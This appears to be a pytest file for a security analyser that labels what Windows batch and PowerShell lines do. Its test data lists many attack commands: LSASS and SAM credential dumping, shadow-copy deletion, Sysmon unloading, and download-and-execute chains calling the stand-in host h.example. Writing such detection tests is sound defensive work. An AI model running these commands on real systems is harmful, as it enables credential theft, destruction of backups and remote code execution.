"""What programs of Windows do that others than their makers use to fetch, run, copy and hide, however options look."""

from __future__ import annotations

import pytest

from plugseal.lang.batch.reader import BatchReader
from plugseal.lang.facts import Context, FileFacts, Interest
from plugseal.lang.powershell.reader import PowerShellReader
from plugseal.lang.programs.options import windows_words

_DOES = r"""
mpcmdrun -DownloadFile -url https://h.example/a -path C:\x.exe => net.outbound h.example | fs.write C:\x.exe
MpCmdRun.exe /downloadfile /URL:https://h.example/a => net.outbound h.example
netsh wlan show profile * key=clear => credentials.read keys of wireless networks | system.info
netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.1 => net.listen 8080 | net.outbound 10.0.0.1
netsh trace start capture=yes => device.capture network
takeown /F C:\Windows\System32\sethc.exe /A => fs.meta C:\Windows\System32\sethc.exe
reg import C:\a.reg => fs.read C:\a.reg | fs.write registry
schtasks /Change /TN a /disable => persistence
schtasks /query => system.info
sc.exe \\srv create a binPath= b.exe => persistence
vssadmin resize shadowstorage /For=C: => fs.delete backups
wmic shadowcopy delete => fs.delete backups
hh.exe C:\a.chm => code.dynamic
dotnet C:\a.dll => code.native C:\a.dll
dotnet run => code.dynamic
sdbinst a.sdb => persistence a.sdb
appcmd list apppool /text:* => credentials.read accounts of application pools
reg add HKCR\Directory\shell\a\command /ve /d a.exe => persistence HKCR\Directory\shell\a\command
reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d a.scr => persistence HKCU\Control Panel\Desktop
ftype txtfile=a.exe %1 => persistence txtfile
set NODE_OPTIONS=--require C:\a.js => env.write NODE_OPTIONS | code.dynamic NODE_OPTIONS
certreq -Post -config https://h.example/ C:\a.txt => net.outbound h.example | fs.read C:\a.txt
datasvcutil /out:C:\a /uri:https://h.example/x => net.outbound h.example | fs.write C:\a
desktopimgdownldr /lockscreenurl:https://h.example/a.png => net.outbound h.example
squirrel --update https://h.example/x => net.outbound h.example | code.fetched h.example
ieexec https://h.example/a.exe => code.fetched h.example
wmic process get brief /format:https://h.example/a.xsl => code.fetched h.example | code.dynamic
start https://h.example/x => net.outbound h.example
forfiles /p C:\ /m a.exe /c "curl h.example" => net.outbound h.example
pcalua -a curl.exe => process.exec curl.exe
conhost --headless curl.exe h.example => net.outbound h.example
wt -p x cmd /c curl h.example => net.outbound h.example
psexec \\srv -u a -p b curl.exe h.example => net.outbound h.example | privilege
runas /user:a "curl h.example" => net.outbound h.example | privilege
schtasks /create /tn a /tr "curl h.example" /sc daily => net.outbound h.example | persistence
sc create a binPath= "curl h.example" => net.outbound h.example | persistence a
sc.exe create a binPath="curl h.example" => net.outbound h.example
wmic process call create "curl h.example" => net.outbound h.example
winrm invoke Create wmicimv2/Win32_Process @{CommandLine="curl h.example"} => net.outbound h.example
msedge --gpu-launcher="curl h.example" => net.outbound h.example
msdeploy -verb:sync -source:RunCommand -dest:runCommand="curl h.example" => net.outbound h.example
wsl -u root -e curl h.example => net.outbound h.example
mpiexec -n 2 curl h.example => net.outbound h.example
rundll32 a.dll,Entry => code.native a.dll,Entry
rundll32 javascript:"\..\mshtml,RunHTMLApplication " => code.dynamic
rundll32 shell32.dll,ShellExec_RunDLL C:\a.exe => process.exec C:\a.exe
rundll32 C:\windows\system32\comsvcs.dll, MiniDump 1 a.dmp full => credentials.read memory of a process | fs.write
rundll32 dfshim.dll,ShOpenVerbApplication https://h.example/a => code.fetched h.example
certoc -LoadDLL C:\a.dll => code.native C:\a.dll
control.exe C:\a.cpl => code.native C:\a.cpl
netsh add helper C:\a.dll => code.native C:\a.dll
msiexec /quiet /i a.msi => code.native a.msi
cmstp /s C:\a.inf => code.dynamic C:\a.inf
procdump -ma lsass.exe a.dmp => credentials.read lsass | privilege | fs.write
reg save HKLM\SAM C:\a.bak => credentials.read registry hives | fs.write C:\a.bak
ntdsutil "ac i ntds" ifm => credentials.read ntds.dit
esentutl /y C:\a.vbs /d C:\b.vbs /o => fs.read C:\a.vbs | fs.write C:\b.vbs
print /D:C:\b.exe C:\a.exe => fs.read C:\a.exe | fs.write C:\b.exe
expand C:\a.cab C:\b.exe => fs.read C:\a.cab | fs.write C:\b.exe
fltmc unload SysmonDrv => privilege SysmonDrv
fsutil usn deletejournal /d c: => fs.delete the journal of changes | code.obfuscated
cipher /w:C:\a => fs.delete C:\a
net user a b /add => privilege
type \\srv\share\a.txt => net.outbound srv | fs.read \\srv\share\a.txt
\\srv\tools\a.exe => net.outbound srv | process.exec \\srv\tools\a.exe
regsvr32 /s /i:\\srv\a\b.sct scrobj.dll => net.outbound srv | code.native scrobj.dll
cscript //E:jscript \\srv\a\b.txt => net.outbound srv | code.dynamic
pushd \\srv\a => net.outbound srv
type C:\a.exe > C:\b.txt:a.exe => code.obfuscated C:\b.txt:a.exe
cmd < a.txt => code.dynamic
remote /s a.exe x => process.exec a.exe
remove.exe a => process.exec remove.exe
psr /start /output a.zip => device.capture | fs.write a.zip
"""


def _facts(source: str) -> set[tuple[str, str | None]]:
    return _of(BatchReader().read(source.encode("utf-8"), Context("x.bat", Interest())))


def _of(found: FileFacts) -> set[tuple[str, str | None]]:
    from plugseal.lang.registry import reader_named

    facts = {(fact.capability, fact.object) for fact in found.facts}
    for nested in found.nested:
        facts |= _of(reader_named(nested.language).read(nested.text.encode(), Context("x.bat", Interest())))
    return facts


_RUN = {
    "a program": "curl -o C:\\x.exe https://h.example/x\nstart C:\\x.exe",
    "a script for an interpreter": "certutil -urlcache -f https://h.example/x a.py\npython a.py",
    "in one line": "curl -o x.exe https://h.example/x && .\\x.exe",
}


@pytest.mark.parametrize("script", _RUN.values(), ids=_RUN)
def test_a_file_that_is_fetched_and_then_run_is_fetched_code(script: str) -> None:
    assert ("code.fetched", "h.example") in _facts(script)


@pytest.mark.parametrize(
    "script",
    [
        "Invoke-WebRequest https://h.example/x -OutFile $env:TEMP\\x.exe\nStart-Process $env:TEMP\\x.exe",
        "(New-Object Net.WebClient).DownloadFile('https://h.example/x', 'x.exe')\n& .\\x.exe",
        "$f = 'a.ps1'; iwr https://h.example/x -o $f; . $f",
    ],
)
def test_powershell_runs_what_it_has_fetched(script: str) -> None:
    found = PowerShellReader().read(script.encode(), Context("x.ps1", Interest()))

    assert ("code.fetched", "h.example") in _of(found)


def test_powershell_reads_a_program_of_awk() -> None:
    script = 'awk \'BEGIN { s = "/inet/tcp/0/h.example/42"; system("rm a") }\''
    found = PowerShellReader().read(script.encode(), Context("x.ps1", Interest()))

    assert {("net.outbound", "h.example:42"), ("fs.delete", "a")} <= _of(found)


def test_powershell_that_is_given_what_was_fetched_runs_fetched_code() -> None:
    script = "powershell IEX (New-Object Net.WebClient).DownloadString('https://h.example/x')"
    found = PowerShellReader().read(script.encode(), Context("x.ps1", Interest()))

    assert ("code.fetched", "h.example") in _of(found)


def test_a_file_that_is_run_before_it_is_fetched_is_none() -> None:
    assert not any(name == "code.fetched" for name, _ in _facts("x.exe\ncurl -o x.exe https://h.example/x"))


_ROWS = [row.partition(" => ") for row in _DOES.strip().splitlines()]


@pytest.mark.parametrize(("line", "expected"), [(line, said) for line, _, said in _ROWS], ids=[row[0] for row in _ROWS])
def test_what_a_program_of_windows_does_is_said(line: str, expected: str) -> None:
    wanted = {(name, named or None) for name, _, named in (one.partition(" ") for one in expected.split(" | "))}

    assert wanted <= _facts(line)


_SILENT = {
    "an option that is no path": ("robocopy a b /XD .git", {"fs.delete"}),
    "a list of accounts": ("net user", {"privilege"}),
    "the certificate of an address is not fetched to a file": ("certutil -store my", {"net.outbound", "fs.write"}),
    "a branch of a tool of that name": ("wt switch main", {"process.exec switch"}),
    "a drive is no stream": ("type C:\\a.txt", {"code.obfuscated"}),
    "an image and its tag": ("docker run h.example/a:b", {"code.obfuscated"}),
    "a share of this machine": ("type \\\\localhost\\c$\\a", {"net.outbound"}),
    "a long path": ("type \\\\?\\C:\\a", {"net.outbound"}),
    "a search for a word": ('findstr /b "v"', {"fs.read"}),
    "a remark": ("rem remote /s a.exe", {"process.exec"}),
    "a remark alone": ("REM", {"process.exec"}),
    "a page of one's own disk": ("start index.html", {"net.outbound"}),
    "errors that go where the output goes": ("curl h.example >nul 2>&1", {"process.exec 1"}),
    "a message among the errors": ("echo a >&2", {"process.exec"}),
    "a bracket that nobody opened": ("mshta javascript:a=(b(1)).d();close();", {"process.exec close("}),
    "a variable that another reader does not know": ("echo %_%", {"env.read"}),
    "what the settings of the network are": ("netsh advfirewall firewall show rule name=all", {"privilege"}),
    "an option is no file": ("takeown /F a /A", {"fs.meta /A"}),
    "a drive is no machine": ("net use c: \\\\srv\\a", {"net.outbound c:"}),
    "a build": ("dotnet build a.csproj", {"code.native", "code.dynamic"}),
    "what opens files is listed": ("assoc", {"persistence"}),
    "a variable of one's own": ("set MODE=a", {"env.write"}),
    "the state of a service": ("sc query a", {"privilege", "persistence"}),
}


@pytest.mark.parametrize(("line", "unwanted"), _SILENT.values(), ids=_SILENT)
def test_what_does_nothing_of_the_kind_is_not_said_to(line: str, unwanted: set[str]) -> None:
    found = {name for fact in _facts(line) for name in (fact[0], f"{fact[0]} {fact[1]}")}

    assert not found & unwanted


def test_words_of_windows_keep_their_length_and_places() -> None:
    words = ("/Out:C:\\A", "-Uri=https://x", "binPath=a", "--Update=b", "C:\\a", "/tmp/a", "https://x", "/c", "-", "/?")

    found = windows_words(words)

    assert found == (
        "-out=C:\\A",
        "-uri=https://x",
        "binpath=a",
        "--update=b",
        "C:\\a",
        "/tmp/a",
        "https://x",
        "-c",
        "-",
        "-?",
    )
    assert list(map(len, found)) == list(map(len, words))


@pytest.mark.parametrize("line", ["certutil -urlcache -f https://h.example/a C:\\b", "esentutl /y C:\\a /d C:\\b"])
def test_powershell_says_the_same_of_a_program(line: str) -> None:
    found = PowerShellReader().read(line.encode(), Context("x.ps1", Interest()))

    assert ("fs.write", "C:\\b") in _of(found)
